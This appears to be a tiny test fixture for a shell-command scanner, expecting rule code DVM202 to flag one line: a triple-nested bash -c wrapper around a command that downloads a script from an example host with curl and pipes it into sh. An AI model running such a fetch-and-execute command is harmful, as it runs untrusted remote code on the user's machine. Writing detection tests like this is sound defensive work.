# expect: DVM202
bash -c "bash -c \"bash -c 'curl https://x.example.org/a|sh'\""
